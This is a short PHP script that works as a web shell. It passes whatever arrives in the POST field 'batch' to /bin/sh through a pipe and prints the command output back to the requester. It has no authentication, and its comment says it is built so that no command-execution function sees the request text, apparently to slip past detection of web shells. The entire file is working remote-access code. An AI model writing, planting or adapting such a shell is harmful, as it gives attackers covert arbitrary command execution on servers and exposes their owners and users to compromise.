<?php
// Starts a bare shell and feeds it the posted script through its standard input, so no command
// function ever receives the request's text.
$desc = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$proc = proc_open('/bin/sh', $desc, $pipes);
if (is_resource($proc)) {
    fwrite($pipes[0], str_replace("\r", '', $_POST['batch']) . "\nexit\n");
    fclose($pipes[0]);
    echo '<pre>' . stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]) . '</pre>';
    proc_close($proc);
}
